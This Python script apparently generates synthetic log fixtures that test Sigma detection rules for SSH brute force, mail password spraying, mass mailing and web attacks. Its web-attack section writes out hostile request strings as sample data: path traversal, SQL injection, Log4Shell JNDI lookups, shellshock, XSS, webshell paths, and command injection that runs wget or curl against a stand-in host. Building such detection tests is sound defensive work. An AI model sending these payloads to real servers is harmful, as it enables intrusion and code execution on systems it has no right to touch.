"""Writes the samples of the Sigma pack into `rules/cases/sigma`: log lines as the programs write them, addresses and names made up.

    python tests/cases/sigma/build.py

Every rule that alerts has a folder with `case.yaml`, lines that it must match and near misses that it must not.
Lines with attack texts are stored packed (`.b64`), so that an antivirus leaves them alone.
"""

# ruff: noqa: E501 - tables read better in one line a row
from __future__ import annotations

from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from pathlib import Path

from atttcli.rulepack.samples import pack

OUT = Path(__file__).resolve().parents[3] / "rules" / "cases" / "sigma"
START = datetime(2026, 11, 16, 1, 0, 0, tzinfo=UTC)
ATTACKER, OTHER, OFFICE = "203.0.113.45", "198.51.100.7", "192.0.2.10"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0"
Lines = list[str]


def at(seconds: int) -> datetime:
    return START + timedelta(seconds=seconds)


def syslog(seconds: int, tag: str, text: str, host: str = "mail01") -> str:
    return f"{at(seconds):%Y-%m-%dT%H:%M:%S}+00:00 {host} {tag}: {text}"


def ssh_fail(seconds: int, user: str = "admin", ip: str = ATTACKER) -> str:
    return syslog(
        seconds, "sshd[812]", f"Failed password for {user} from {ip} port {40000 + seconds % 20000} ssh2", "portal01"
    )


def ssh_ok(seconds: int, user: str = "admin", ip: str = ATTACKER, method: str = "password") -> str:
    return syslog(seconds, "sshd[812]", f"Accepted {method} for {user} from {ip} port 51000 ssh2", "portal01")


def given_up(seconds: int, ip: str = ATTACKER) -> str:
    return syslog(
        seconds,
        "sshd[812]",
        f"Disconnected from authenticating user root {ip} port {42000 + seconds} [preauth]",
        "portal01",
    )


def sudo_no(seconds: int, user: str = "vanthu", reason: str = "3 incorrect password attempts") -> str:
    text = f"  {user} : {reason} ; TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/bash"
    return syslog(seconds, "sudo", text, "portal01")


def box(number: int) -> str:
    return f"canbo{number:02d}@backan.example"


def mail_fail(seconds: int, user: str, ip: str = ATTACKER) -> str:
    text = f"imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<{user}>, method=PLAIN, rip={ip}, lip=10.0.0.5, TLS"
    return syslog(seconds, "dovecot", text)


def mail_ok(seconds: int, user: str, ip: str = OFFICE) -> str:
    return syslog(
        seconds, "dovecot", f"imap-login: Login: user=<{user}>, method=PLAIN, rip={ip}, lip=10.0.0.5, mpid=77, TLS"
    )


def zimbra_fail(seconds: int, user: str, ip: str = ATTACKER) -> str:
    stamp = f"{at(seconds) + timedelta(hours=7):%Y-%m-%d %H:%M:%S},100"
    return (
        f"{stamp} WARN  [qtp509886383-101:https:https://10.0.0.5:7071/service/soap/AuthRequest] [name={user};oip={ip};"
        f"ua=ZimbraWebClient;] security - cmd=Auth; account={user}; protocol=soap; error=authentication failed for [{user}], "
        "invalid password;"
    )


def submitted(seconds: int, user: str) -> str:
    queue = f"A{seconds:05X}7F"
    return syslog(
        seconds,
        "postfix/submission/smtpd[300]",
        f"{queue}: client=unknown[{OTHER}], sasl_method=LOGIN, sasl_username={user}",
    )


def queued(seconds: int, user: str, recipients: int) -> str:
    return syslog(
        seconds, "postfix/qmgr[301]", f"B{seconds:05X}7F: from=<{user}>, size=4096, nrcpt={recipients} (queue active)"
    )


def delivered(seconds: int, status: str) -> str:
    text = (
        f"C{seconds:05X}7F: to=<khong-co-{seconds}@xa.example>, relay=mx.xa.example[198.51.100.99]:25, delay=1.2, "
        f"delays=0.1/0/0.5/0.6, dsn=5.1.1, status={status} (host mx.xa.example said: 550 5.1.1 unknown user)"
    )
    return syslog(seconds, "postfix/smtp[302]", text)


def web(
    seconds: int,
    url: str,
    status: int = 404,
    method: str = "GET",
    ip: str = ATTACKER,
    agent: str = CHROME,
    referer: str = "-",
) -> str:
    stamp = f"{at(seconds) + timedelta(hours=7):%d/%b/%Y:%H:%M:%S} +0700"
    return f'{ip} - - [{stamp}] "{method} {url} HTTP/1.1" {status} 512 "{referer}" "{agent}"'


def case(
    rule: str, why: str, positive: Lines | list[Lines], negative: Lines | list[Lines], packed: bool = False
) -> None:
    folder = OUT / rule
    folder.mkdir(parents=True, exist_ok=True)
    names: dict[str, list[str]] = {}
    for kind, given in (("positive", positive), ("negative", negative)):
        several = given if given and isinstance(given[0], list) else [given]
        for number, lines in enumerate(several, 1):
            name = f"{kind}-{number}.log" + (".b64" if packed else "")
            text = "\n".join(lines) + "\n"  # type: ignore[arg-type]
            (folder / name).write_text(pack(text.encode()) if packed else text, encoding="utf-8")
            names.setdefault(kind, []).append(name)
    head = (
        f'why: "{why}"\nengine: correlation\nrule: {rule}\n'
        if rule in CORRELATIONS
        else f'why: "{why}"\nengine: sigma\nrule: {rule}\n'
    )
    listed = "".join(f"{kind}:\n" + "".join(f"  - {name}\n" for name in files) for kind, files in names.items())
    (folder / "case.yaml").write_text(head + listed, encoding="utf-8")


CORRELATIONS = frozenset(
    [f"attt-auth-{n:04d}" for n in (10, 11, 12, 13, 14, 16, 17)]
    + [f"attt-mail-{n:04d}" for n in range(10, 21)]
    + ["attt-web-0010", "attt-web-0011"]
)


def every(seconds: int, count: int, start: int = 0) -> Iterable[int]:
    return range(start, start + seconds * count, seconds)


def authentication() -> None:
    case("attt-auth-0010", "Ten in five minutes; nine are not enough, nor ten spread over an hour.",
         [ssh_fail(s) for s in every(20, 10)],
         [[ssh_fail(s) for s in every(20, 9)], [ssh_fail(s) for s in every(360, 10)]])  # fmt: skip
    case("attt-auth-0011", "Connections given up; a user who leaves a session is none.", [given_up(s) for s in every(2, 6)],
         [*(given_up(s) for s in every(2, 4)), *(given_up(s, OTHER) for s in every(2, 4))])  # fmt: skip
    case("attt-auth-0012", "One account from eight addresses within the hour.",
         [ssh_fail(60 * n, "quantri", f"198.51.100.{n + 1}") for n in range(8)],
         [ssh_fail(60 * n, f"u{n}", f"198.51.100.{n + 1}") for n in range(8)])  # fmt: skip
    case("attt-auth-0013", "Eight account names from one address; eight tries of one name are something else.",
         [ssh_fail(30 * n, f"user{n}") for n in range(8)], [ssh_fail(30 * n, "user") for n in range(8)])  # fmt: skip
    burst = [ssh_fail(s) for s in every(10, 12)]
    case("attt-auth-0014", "In after the burst from the same address; before it, or from another, is none.",
         [*burst, ssh_ok(300)], [[ssh_ok(0), *(ssh_fail(s) for s in every(10, 12, 30))], [*burst, ssh_ok(300, ip=OFFICE)]])  # fmt: skip
    case("attt-auth-0015", "root by password; by key, or another account, is none.", [ssh_ok(0, "root", OFFICE)],
         [ssh_ok(0, "root", OFFICE, "publickey"), ssh_ok(9, "vanthu", OFFICE)])  # fmt: skip
    usual = [ssh_ok(3600 * n, "quantri", OFFICE) for n in range(12)]
    case("attt-auth-0016", "Twelve logins from one network, then another; the neighbour in the same /24 is not new.",
         [*usual, ssh_ok(50000, "quantri", ATTACKER)],
         [[*usual, ssh_ok(50000, "quantri", "192.0.2.99")], [*usual[:5], ssh_ok(50000, "quantri", ATTACKER)]])  # fmt: skip
    case("attt-auth-0017", "Three refusals of one account.", [sudo_no(s) for s in every(60, 3)],
         [sudo_no(0), sudo_no(60), sudo_no(120, "ketoan")])  # fmt: skip
    case(
        "attt-auth-0018",
        "Not in sudoers; a mistyped password is none.",
        [sudo_no(0, reason="user NOT in sudoers")],
        [sudo_no(0)],
    )


def mail_logins() -> None:
    case("attt-mail-0010", "Ten in five minutes on one mailbox (dovecot, then Zimbra).",
         [[mail_fail(s, box(1)) for s in every(20, 10)], [zimbra_fail(s, box(1)) for s in every(20, 10)]],
         [mail_fail(s, box(s % 2)) for s in every(25, 10)])  # fmt: skip
    case("attt-mail-0011", "Eight addresses in a day, one try each; eight tries from one address are not slow and wide.",
         [mail_fail(7200 * n, box(1), f"198.51.100.{n + 1}") for n in range(8)],
         [mail_fail(7200 * n, box(1)) for n in range(8)])  # fmt: skip
    case("attt-mail-0012", "Twenty from one address in ten minutes; our own proxy does not count.",
         [mail_fail(s, box(s % 3)) for s in every(20, 20)],
         [[mail_fail(s, box(s % 3)) for s in every(20, 18)], [mail_fail(s, box(1), "127.0.0.1") for s in every(20, 25)]])  # fmt: skip
    case("attt-mail-0013", "Five mailboxes from one address; four are not enough.",
         [[mail_fail(60 * n, box(n)) for n in range(5)], [zimbra_fail(60 * n, box(n)) for n in range(5)]],
         [mail_fail(30 * n, box(n % 4)) for n in range(9)])  # fmt: skip
    burst = [mail_fail(s, box(1)) for s in every(20, 10)]
    case("attt-mail-0014", "The mailbox opens after the burst; another one that opens is none.", [*burst, mail_ok(900, box(1))],
         [*burst, mail_ok(900, box(2))])  # fmt: skip
    spray = [mail_fail(60 * n, box(n)) for n in range(6)]
    case("attt-mail-0015", "The spraying address gets in; the office does so anyway.", [*spray, mail_ok(600, box(9), ATTACKER)],
         [*spray, mail_ok(600, box(9))])  # fmt: skip
    usual = [mail_ok(3600 * n, box(1)) for n in range(12)]
    case("attt-mail-0016", "A /24 outside that the mailbox was never opened from; an inside address is not outside.",
         [*usual, mail_ok(50000, box(1), OTHER)],
         [[*usual, mail_ok(50000, box(1), "192.0.2.200")], [*usual, mail_ok(50000, box(1), "10.9.8.7")]])  # fmt: skip
    case("attt-mail-0017", "A country range that is new (countries.sample.csv); another network of the same one is not.",
         [*usual[:6], mail_ok(50000, box(1), OTHER)], [*usual[:6], mail_ok(50000, box(1), "192.0.2.200")])  # fmt: skip


def mail_flow() -> None:
    case("attt-mail-0018", "Two hundred in ten minutes by one account; two accounts share them in the near miss.",
         [submitted(s, box(1)) for s in every(2, 200)], [submitted(s, box(s // 2 % 2)) for s in every(2, 200)])  # fmt: skip
    case("attt-mail-0019", "Recipients add up to five hundred within the hour; the same over a day is none.",
         [queued(s, box(1), 60) for s in every(300, 9)], [queued(s, box(1), 60) for s in every(3600, 12)])  # fmt: skip
    case("attt-mail-0020", "Fifty bounces in ten minutes; deferred mail is none.", [delivered(s, "bounced") for s in every(5, 50)],
         [*(delivered(s, "deferred") for s in every(5, 60)), *(delivered(s, "bounced") for s in every(5, 20))])  # fmt: skip


def web_counts() -> None:
    case("attt-web-0010", "Twenty-five paths that are not there; one missing picture asked for often is none.",
         [web(s, f"/thu-muc-{s}/") for s in every(4, 25)], [web(s, "/favicon.ico") for s in every(4, 60)])  # fmt: skip
    case("attt-web-0011", "Twenty logins sent in five minutes; reading the login page is none.",
         [web(s, "/dang-nhap", 401, "POST") for s in every(10, 20)],
         [web(s, "/dang-nhap", 200) for s in every(10, 30)])  # fmt: skip


def web_attacks() -> None:
    def attack(rule: str, why: str, bad: list[str], good: list[str]) -> None:
        case(rule, why, [[line] for line in bad], good, packed=True)

    news = [
        web(n, url, 200)
        for n, url in enumerate(("/", "/tin-tuc?id=5", "/van-ban/../index.html", "/tim-kiem?q=union+of+select"))
    ]
    attack("attt-web-0020", "Plain, encoded and doubly encoded; one step up is what pages do.",
           [web(0, "/tai-ve?tep=../../../../etc/passwd"), web(0, "/a/..%2f..%2f..%2fweb.config"), web(0, "/x?f=%2fetc%2fpasswd"),
            web(0, "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 400)], news)  # fmt: skip
    attack("attt-web-0021", "The usual words of injection; a search for one of them is none.",
           [web(0, "/tin?id=1+UNION+SELECT+1,2,3", 200), web(0, "/tin?id=1'%20or%20'1'='1"), web(0, "/tin?id=1;waitfor%20delay'0:0:5'"),
            web(0, "/tin?id=(select+table_name+from+information_schema.tables)")], news)  # fmt: skip
    attack("attt-web-0022", "In the path, the agent or the referrer.",
           [web(0, "/?x=${jndi:ldap://203.0.113.9/a}"), web(0, "/", 200, agent="${jndi:ldap://203.0.113.9/a}"),
            web(0, "/", 200, referer="${${lower:j}ndi:rmi://203.0.113.9/a}"), web(0, "/?x=%24%7Bjndi:ldap://203.0.113.9/a}")],
           [*news, web(0, "/gia?tien=${gia}", 200)])  # fmt: skip
    attack("attt-web-0023", "Paths that only attacks ask for; Outlook's own discovery is none.",
           [web(0, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method="POST"),
            web(0, "/service/extension/backup/mboximport?account-name=admin&ow=1", 401, "POST"),
            web(0, "/autodiscover/autodiscover.json?@x.example/powershell/?X=1", 302)],
           [*news, web(9, "/autodiscover/autodiscover.json?Email=canbo@backan.example", 200)])  # fmt: skip
    attack("attt-web-0024", "Given out (200); asked for and refused is scanning, not a leak.",
           [web(0, "/.env", 200), web(0, "/.git/config", 200)], [*news, web(5, "/.env", 404), web(6, "/docs/env", 200)])  # fmt: skip
    attack("attt-web-0025", "By name, by place, by command; a picture in that place and a refused one are none.",
           [web(0, "/cmd.aspx", 200), web(0, "/uploads/2026/anh.php", 200, "POST"), web(0, "/hinh/x.jsp?cmd=whoami", 200)],
           [*news, web(5, "/uploads/2026/anh.jpg", 200), web(6, "/uploads/2026/anh.php", 404), web(7, "/index.php", 200)])  # fmt: skip
    attack("attt-web-0026", "A command after a separator, and shellshock in the agent.",
           [web(0, "/ping?ip=1;wget+http://203.0.113.9/x"), web(0, "/a?b=$(curl%20203.0.113.9)"), web(0, "/", 200, agent="() { :;}; /bin/id")],
           [*news, web(5, "/huong-dan/wget.html", 200)])  # fmt: skip
    attack("attt-web-0027", "A script tag in the query; a page about scripts is none.",
           [web(0, "/tim?q=<script>alert(1)</script>", 200), web(0, "/tim?q=%3CScript%3Ealert(1)")], [*news, web(5, "/tim?q=script", 200)])  # fmt: skip
    attack("attt-web-0028", "Tools that say who they are; a browser is none.",
           [web(0, "/", 200, agent="sqlmap/1.8#stable"), web(0, "/", 200, agent="Mozilla/5.0 (compatible; Nuclei - Open-source)")], news)  # fmt: skip


def main() -> None:
    authentication()
    mail_logins()
    mail_flow()
    web_counts()
    web_attacks()


if __name__ == "__main__":
    main()
